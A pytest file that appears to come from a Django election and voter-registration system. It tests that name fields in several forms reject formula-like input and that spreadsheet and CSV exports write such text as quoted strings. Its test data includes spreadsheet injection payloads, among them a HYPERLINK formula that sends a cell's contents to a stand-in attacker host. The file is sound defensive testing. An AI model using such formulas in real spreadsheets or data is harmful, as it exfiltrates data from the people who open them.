"""Formula injection (issue 12, item 3): every form that takes a person's name applies the importer's name rule,
and every spreadsheet export writes text that looks like a formula as quoted text, never as a formula."""
import datetime
import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from candidates.forms import RelationForm
from counting.forms import TotalsForm
from elections.forms import CommitteeMemberForm
from elections.names import PersonNameField
from elections.services.committee import committee_member_add
from elections.spreadsheets import FORMULA_START, csv_row
from polling.forms import StaffForm
from tests.voters.conftest_publication import *  # noqa: F403
from tests.voters.conftest_publication import add_voters
from voters import exports
from voters.forms_publication import ObjectionForm
from voters.models import Registration, Resident, ResidentGroup
from voters.services.residents import resident_update

from .helpers import group, id_number, resident

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
HOSTILE = [LINK, "+86 13800138000", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


# --- names ------------------------------------------------------------------------------------------------------

def resident_form_data(community, **changes):
    return {"name": "王五", "id_number": id_number(datetime.date(1985, 1, 1)), "group": group(community).pk,
            "household_number": "9-1-101", "relation_to_head": "户主", "hukou_address": "x",
            "residence_address": "x", "hukou_here": "on", "lives_here": "on", **changes}


@pytest.mark.parametrize("name", HOSTILE + ["张三1", "李四<b>"])
def test_the_add_resident_page_refuses_a_name_the_importer_refuses(client_as, clerk_a, community_a, name):
    response = client_as(clerk_a).post(reverse("voters:resident_add", args=[community_a.code]),
                                       resident_form_data(community_a, name=name))
    assert response.status_code == 200
    assert "含有不属于姓名的字符" in response.context["form"].errors["name"][0]
    assert not Resident.objects.exists()


def test_the_edit_resident_page_refuses_it_too(client_as, clerk_a, community_a):
    person = resident(community_a, name="王五")
    data = resident_form_data(community_a, name=LINK, id_number=person.id_number)
    response = client_as(clerk_a).post(reverse("voters:resident_edit", args=[community_a.code, person.pk]), data)
    assert "name" in response.context["form"].errors
    assert Resident.objects.get(pk=person.pk).name == "王五"


def test_the_resident_form_tidies_a_name_as_the_importer_does(client_as, clerk_a, community_a):
    client_as(clerk_a).post(reverse("voters:resident_add", args=[community_a.code]),
                            resident_form_data(community_a, name="王　五"))
    assert Resident.objects.get().name == "王五"


def test_the_resident_service_refuses_the_name_whatever_the_path(community_a, clerk_a):
    person = resident(community_a, name="王五")
    with pytest.raises(ValidationError) as exc:
        resident_update(resident=person, actor=clerk_a, name=LINK)
    assert "name" in exc.value.message_dict


@pytest.mark.parametrize("form", [
    lambda name, election: CommitteeMemberForm({"name": name, "sex": "M", "position": "member", "phone": ""}),
    lambda name, election: StaffForm({"name": name, "duty": "issuer", "phone": ""}, election=election),
])
def test_committee_members_and_polling_staff_forms_refuse_such_names(form, election_a):
    assert "name" in form(LINK, election_a).errors and form("欧阳·娜娜", election_a).is_valid()


def test_the_objection_form_refuses_such_names(election_a):
    form = ObjectionForm({"objector": LINK, "subject_name": "@x", "content": "不符合条件",
                          "received_on": "2026-12-11"}, election=election_a)
    assert {"objector", "subject_name"} <= set(form.errors)


def test_names_written_in_on_ballots_and_relatives_names_are_checked_too():
    sheet = TotalsForm({"returned": 1, "valid": 1, "invalid": 0, "w0-name": LINK}, contests=[], people={})
    assert "w0-name" in sheet.errors
    assert isinstance(RelationForm.base_fields["relative_name"], PersonNameField)


def test_the_services_behind_those_forms_refuse_such_names(election_a, clerk_a):
    with pytest.raises(ValidationError):
        committee_member_add(election=election_a, actor=clerk_a, name=LINK, sex="M", position="member")


# --- exports ------------------------------------------------------------------------------------------------------

@pytest.fixture
def hostile_list(registering):
    """Voters whose stored names, group and reasons look like formulas (data from before the name rule, or typed
    into fields that are not names)."""
    hostile_group = ResidentGroup.objects.create(community=registering.community, number=99, name="=1+1")
    for person, text in zip(add_voters(registering, len(HOSTILE)), HOSTILE, strict=True):
        Resident.objects.filter(pk=person.pk).update(name=text[:50], group=hostile_group)
    refused = add_voters(registering, len(HOSTILE), status=Registration.Status.REFUSED)
    for person, text in zip(refused, HOSTILE, strict=True):
        Registration.objects.filter(resident=person).update(reason=text)
        Resident.objects.filter(pk=person.pk).update(group=hostile_group)
    return registering


@pytest.mark.parametrize("kind", sorted(exports.EXPORTS))
def test_every_export_writes_formula_like_text_as_quoted_text(hostile_list, kind, clerk_a):
    _filename, data = exports.export_download(election=hostile_list, actor=clerk_a, kind=kind, full_ids=True)

    with zipfile.ZipFile(io.BytesIO(data)) as xlsx:
        sheets = [xlsx.read(name) for name in xlsx.namelist() if name.startswith("xl/worksheets/")]
    assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)  # not one formula
    cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
    assert not any(cell.data_type == "f" for cell in cells)
    by_text = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    # Names in the voter list, reasons in the problem report; the group in both. (XML reads a CR back as LF.)
    for text in {"=1+1", *HOSTILE}:
        cell = by_text[text.replace("\r", "\n")]
        assert (cell.data_type, cell.quotePrefix) == ("s", True), (kind, text)
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert cell.quotePrefix, cell.coordinate


def test_csv_rows_put_an_apostrophe_before_formula_like_text():
    assert csv_row(["=1+1", "+86", "-2", "@x", "\tx", "\rx", "王五", 3, None]) == [
        "'=1+1", "'+86", "'-2", "'@x", "'\tx", "'\rx", "王五", 3, None]
